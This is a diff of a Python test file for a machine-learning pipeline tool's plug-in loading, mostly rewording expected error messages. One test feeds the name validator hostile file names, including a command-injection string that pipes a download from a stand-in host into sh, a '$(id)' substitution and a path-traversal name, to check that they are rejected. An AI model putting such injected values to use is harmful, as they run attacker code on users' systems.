@@ -281,37 +281,40 @@ def test_the_plug_in_is_asked_for_in_a_line_and_is_never_run_from_the_file(folde
         (
             "mine.py",
             ["--model", "forgetful", "--extractor", "pixels"],
-            "cannot be saved: it holds <lambda> of the plug-in mine.py",
+            "cannot be saved: it contains <lambda> of the plug-in mine.py",
         ),
         *(
             ("keepers.py", ["--model", model, "--extractor", "pixels"], words)
             for model, words in (
                 (
                     "in_class",
-                    "in a new process it does not predict (AttributeError: 'NoneType' object has "
+                    "in a new process, it does not predict (AttributeError: 'NoneType' object has "
                     "no attribute 'predict_proba'); fit",
                 ),
                 (
                     "in_global",
-                    "in a new process it predicts otherwise; fit and learn must keep all that they "
+                    "in a new process, its predictions differ; fit and learn must keep all that they "
                     "learn in attributes of the object",
                 ),
                 (
                     "draws",
-                    "a file keeps no random generator: draw random numbers in fit or learn only",
+                    "a file does not store random generators: draw random numbers in fit or learn only",
                 ),
                 (
                     "dated",
-                    "holds datetime.date, a type that is not trusted; a pipeline's file keeps "
+                    "contains datetime.date, a type that is not trusted; a pipeline's file can store "
                     "numbers, text",
                 ),
-                ("objects", "one of its arrays holds Python objects; a pipeline's file keeps"),
+                (
+                    "objects",
+                    "one of its arrays contains Python objects; a pipeline's file can store",
+                ),
                 (
                     "boosted",
-                    "GradientBoostingClassifier, a type that is not trusted; a pipeline's file "
-                    "keeps",
+                    "GradientBoostingClassifier, a type that is not trusted; a pipeline's file can "
+                    "store",
                 ),
-                ("parallel", "its ExtraTreesClassifier has n_jobs=2; a pipeline's has n_jobs=None"),
+                ("parallel", "its ExtraTreesClassifier has n_jobs=2; set n_jobs=None"),
             )
         ),
     ],
@@ -381,7 +384,7 @@ def test_what_is_made_of_parts_is_rehearsed_though_all_are_in_the_registry(
     "name", ["x.py;curl evil.sh|sh", "../x.py", "a b.py", "x" * 60_000 + ".py", "$(id).py", "x.sh"]
 )
 def test_a_strangers_name_of_a_plug_in_is_in_no_command_to_be_copied(name):
-    with pytest.raises(UserError, match=r"is no name of a plug-in file") as caught:
+    with pytest.raises(UserError, match=r"is not a valid name of a plug-in file") as caught:
         match_plugin_files({name: b"text"}, [], "it.pipeline")
     assert "unzip" not in str(caught.value)
     assert len(str(caught.value)) < 500
